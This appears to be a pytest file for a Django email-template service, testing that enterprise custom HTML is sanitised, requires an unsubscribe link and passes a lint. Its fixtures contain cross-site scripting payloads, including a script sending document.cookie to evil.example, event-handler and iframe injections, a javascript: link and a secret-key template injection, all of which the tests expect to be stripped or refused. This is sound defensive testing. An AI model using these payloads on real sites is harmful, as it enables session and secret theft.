"""Custom HTML (enterprise plans only, sanitised, with the unsubscribe variable) and the Save & Send lint."""

from __future__ import annotations

import pytest
from django.core.exceptions import ValidationError

from messaging.email.compiler import CompiledEmail
from messaging.email.lint import template_lint, template_lint_errors
from messaging.email.starters import starter
from messaging.models import MessageTemplate
from messaging.rendering import RenderContext
from messaging.services import message_template_create
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

GOOD_HTML = """
<table width="600" style="background:#fff"><tr><td>
  <h1 onclick="steal()">Hi {{ customer.first_name | there }}</h1>
  <p style="color:#333">Your code: <b>{{ voucher.code }}</b></p>
  <script>document.location='https://evil.example/?c='+document.cookie</script>
  <img src="https://cdn.acme.example/a.gif" alt="Party" onerror="steal()">
  <iframe src="https://evil.example"></iframe>
  <a href="{{ unsubscribe.url }}">Unsubscribe</a>
</td></tr></table>
"""


@pytest.fixture
def enterprise(project):
    project.plan = "enterprise"
    project.save(update_fields=["plan"])
    return project


def save(project, **content):
    return message_template_create(project=project, channel="email", content={"subject": "Hi", **content})


def refused(project, **content) -> dict:
    with pytest.raises(ValidationError) as caught:
        save(project, **content)
    assert not MessageTemplate.objects.for_project(project).exists()
    return caught.value.message_dict


def test_an_enterprise_project_saves_sanitised_custom_html(enterprise):
    template = save(enterprise, custom_html=GOOD_HTML)
    customer = CustomerFactory(project=enterprise, name="Ada Lovelace")

    email = CompiledEmail(template.content).render(
        RenderContext(
            customer=customer, variables={"voucher.code": "X-1"}, project=enterprise, channel="email"
        )
    )

    assert "Hi Ada" in email.html and "<b>X-1</b>" in email.html and 'style="color:#333"' in email.html
    assert 'src="https://cdn.acme.example/a.gif"' in email.html
    for gone in ("<script", "onclick", "onerror", "<iframe", "document.cookie"):
        assert gone not in email.html
    assert "/u/" in email.html
    assert "Your code: X-1" in email.text and "Unsubscribe (http" in email.text


@pytest.mark.parametrize("plan", ["trial", "standard"])
def test_custom_html_is_refused_below_the_enterprise_plan(project, plan):
    project.plan = plan
    project.save(update_fields=["plan"])

    assert "enterprise plan" in refused(project, custom_html=GOOD_HTML)["custom_html"][0]


def test_custom_html_needs_the_unsubscribe_variable(enterprise):
    problems = refused(enterprise, custom_html="<p>Hi {{ customer.name }}</p>")

    assert problems["custom_html"] == ["The unsubscribe link variable {{ unsubscribe.url }} is required."]


def test_custom_html_with_an_unsafe_link_or_unknown_variable_is_refused(enterprise):
    problems = refused(
        enterprise,
        custom_html=(
            '<a href="javascript:alert(1)">x</a> {{ settings.SECRET_KEY }} '
            '<a href="{{unsubscribe.url}}">u</a>'
        ),
    )

    assert "Unknown variable {{settings.SECRET_KEY}}." in problems["custom_html"]
    assert "Unsafe link 'javascript:alert(1)' in href." in problems["custom_html"]


def test_an_unsubscribe_link_hidden_in_a_removed_tag_does_not_count(enterprise):
    problems = refused(enterprise, custom_html='<p>Hi</p><script>"{{ unsubscribe.url }}"</script>')

    assert problems["custom_html"] == ["The unsubscribe link must be in the visible content."]


# --- Lint ---------------------------------------------------------------------------------------


def codes(findings):
    return [(f.level, f.code) for f in findings]


def test_a_clean_code_template_lints_clean(project):
    template = save(project, design=starter("simple")["design"])

    assert template_lint(channel="email", content=template.content, carries_code=True) == []


def test_a_code_action_without_the_code_variable_is_an_error(project):
    content = starter("simple")
    content["design"]["body"] = [{"type": "text", "runs": [{"text": "Hello"}]}]
    template = save(project, design=content["design"])

    findings = template_lint(channel="email", content=template.content, carries_code=True)

    assert codes(findings) == [("error", "missing_code")]
    assert template_lint(channel="email", content=template.content, carries_code=False) == []


def test_variables_without_fallbacks_are_warnings(project):
    design = starter("simple")["design"]
    design["body"].append(
        {"type": "text", "runs": [{"text": "{{ loyalty.points_balance }} points, {{ customer.name }}"}]}
    )
    template = save(project, design=design)

    findings = template_lint(channel="email", content=template.content, carries_code=True)

    assert codes(findings) == [("warning", "no_fallback"), ("warning", "no_fallback")]
    assert template_lint_errors(findings) == []
    assert "{{ loyalty.points_balance }}" in findings[0].message


def test_payloads_read_by_machines_get_no_fallback_warnings_but_still_need_the_code():
    payload = {"payload": {"name": "{{ customer.name }}", "tier": "{{ loyalty.tier }}"}}

    assert template_lint(channel="webhook", content=payload, carries_code=False) == []
    assert codes(
        template_lint(channel="sms", content={"body": "{{ customer.name }}"}, carries_code=False)
    ) == [("warning", "no_fallback")]
    assert codes(template_lint(channel="webhook", content=payload, carries_code=True)) == [
        ("error", "missing_code")
    ]


def test_content_without_the_unsubscribe_link_is_an_error(project):
    content = {
        "subject": "Hi",
        "compiled": {"placeholders": ["{{ voucher.code }}"], "text": "{{ voucher.code }}"},
    }

    assert codes(template_lint(channel="email", content=content, carries_code=True)) == [
        ("error", "missing_unsubscribe")
    ]
